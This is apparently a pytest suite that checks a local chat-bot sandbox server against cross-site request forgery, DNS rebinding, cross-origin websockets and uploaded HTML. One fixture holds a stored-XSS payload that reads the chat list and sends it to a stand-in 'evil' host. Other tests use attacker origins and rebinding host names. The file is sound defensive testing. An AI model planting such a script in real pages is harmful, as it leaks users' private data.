"""The sandbox as an attacker's web page sees it: cross-site requests, DNS rebinding, uploaded HTML.

Each request here is what a browser sends for another site's page (a form post, a fetch with
``text/plain``, a websocket); the server must refuse it while the chat page and programs still work.
"""

from __future__ import annotations

import json

import aiohttp
import pytest

from sandbox import RunningServer
from sandbox.request_guard import allowed_hosts, host_name

ALICE = 501
EVIL = "http://evil.example"
HTML = b"<html><script>fetch('/sandbox/chats').then(r => r.text()).then(t => location = '//evil/?' + t)</script>"


def _own_origin(server: RunningServer) -> str:
    return server.url


@pytest.mark.parametrize(
    ("headers", "body", "status"),
    [
        # A cross-site fetch(..., {mode: "no-cors", body: JSON text}) arrives as text/plain.
        ({"Origin": EVIL, "Content-Type": "text/plain"}, json.dumps({"user_id": ALICE, "text": "hi"}), 403),
        ({"Origin": EVIL, "Content-Type": "application/json"}, json.dumps({"user_id": ALICE, "text": "hi"}), 403),
        ({"Origin": "null", "Content-Type": "application/json"}, json.dumps({"user_id": ALICE, "text": "hi"}), 403),
        ({"Sec-Fetch-Site": "cross-site", "Content-Type": "application/json"}, json.dumps({"user_id": ALICE}), 403),
        # No Origin is a program, not a page: still only JSON.
        ({"Content-Type": "text/plain"}, json.dumps({"user_id": ALICE, "text": "hi"}), 415),
        ({"Content-Type": "application/x-www-form-urlencoded"}, "user_id=501&text=hi", 415),
    ],
)
async def test_cross_site_and_non_json_posts_change_nothing(
    server: RunningServer, http: aiohttp.ClientSession, headers: dict, body: str, status: int
) -> None:
    for path in ("/sandbox/send_message", "/sandbox/press_button", "/sandbox/reset"):
        async with http.post(path, data=body, headers=headers) as resp:
            assert resp.status == status, path
            assert (await resp.json())["ok"] is False
    assert server.state.chats == {} and server.state.pending_updates == []


async def test_the_page_itself_and_programs_are_served(server: RunningServer, http: aiohttp.ClientSession) -> None:
    payload = {"user_id": ALICE, "text": "hello"}
    for headers in ({"Origin": _own_origin(server)}, {"Sec-Fetch-Site": "same-origin"}, {}):
        async with http.post("/sandbox/send_message", json=payload, headers=headers) as resp:
            assert resp.status == 200, headers
    assert len(server.state.pending_updates) == 3


async def test_cross_site_upload_form_is_refused(server: RunningServer, http: aiohttp.ClientSession) -> None:
    form = aiohttp.FormData()
    form.add_field("user_id", str(ALICE))
    form.add_field("file", b"\xff\xd8\xff", filename="x.jpg", content_type="image/jpeg")
    async with http.post("/sandbox/send_photo", data=form, headers={"Origin": EVIL}) as resp:
        assert resp.status == 403
    assert server.state.files == {}


async def test_websocket_only_for_the_page_itself(server: RunningServer, http: aiohttp.ClientSession) -> None:
    with pytest.raises(aiohttp.WSServerHandshakeError) as refused:
        await http.ws_connect("/sandbox/ws", headers={"Origin": EVIL})
    assert refused.value.status == 403
    async with http.ws_connect("/sandbox/ws", headers={"Origin": _own_origin(server)}) as ws:
        await http.post("/sandbox/send_message", json={"user_id": ALICE, "text": "over the socket"})
        event = json.loads((await ws.receive(timeout=5)).data)
        assert event["chat_id"] == ALICE


@pytest.mark.parametrize("host", ["evil.example", "evil.example:8080", "127.0.0.1.nip.io", "192.168.1.20"])
async def test_other_host_names_are_refused(server: RunningServer, http: aiohttp.ClientSession, host: str) -> None:
    # DNS rebinding: the attacker's name now points at 127.0.0.1, but the browser still sends it in Host.
    for method, path in (("GET", "/sandbox/chats"), ("GET", "/"), ("GET", "/sandbox/status")):
        async with http.request(method, path, headers={"Host": host}) as resp:
            assert resp.status == 421, (method, path)


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", "[::1]"])
async def test_loopback_names_are_served(server: RunningServer, http: aiohttp.ClientSession, host: str) -> None:
    async with http.get("/sandbox/status", headers={"Host": f"{host}:{server.port}"}) as resp:
        assert resp.status == 200


def test_allowed_hosts_add_a_named_bind_host_but_not_a_wildcard() -> None:
    assert "moodlens.lan" in allowed_hosts("moodlens.lan")
    assert allowed_hosts("0.0.0.0") == allowed_hosts("127.0.0.1") == {"127.0.0.1", "localhost", "::1"}
    assert [host_name(h) for h in ("[::1]:80", "LocalHost:8080", "::1", "x")] == ["::1", "localhost", "::1", "x"]


async def test_uploaded_html_is_a_download_never_a_page(server: RunningServer, http: aiohttp.ClientSession) -> None:
    form = aiohttp.FormData()
    form.add_field("user_id", str(ALICE))
    form.add_field("file", HTML, filename="selfie.html", content_type="text/html")
    async with http.post("/sandbox/send_document", data=form) as resp:
        assert resp.status == 200
        file = (await resp.json())["message"]["file"]
    stored = server.state.files[file["file_id"]]
    urls = [file["url"], f"/file/bot{server.token}/{stored.file_path}"]
    for url in urls:
        async with http.get(url) as resp:
            assert resp.status == 200 and await resp.read() == HTML
            assert resp.headers["Content-Disposition"].startswith("attachment"), url
            assert resp.headers["X-Content-Type-Options"] == "nosniff"
            assert "sandbox" in resp.headers["Content-Security-Policy"]
            assert "default-src 'none'" in resp.headers["Content-Security-Policy"]


async def test_bot_api_refuses_web_pages(server: RunningServer, http: aiohttp.ClientSession) -> None:
    # The sandbox token is public: only the Origin rule keeps a page from posting as the bot.
    async with http.post(f"/bot{server.token}/getMe", headers={"Origin": EVIL}) as resp:
        assert resp.status == 403
    async with http.post(f"/bot{server.token}/getMe") as resp:
        assert resp.status == 200
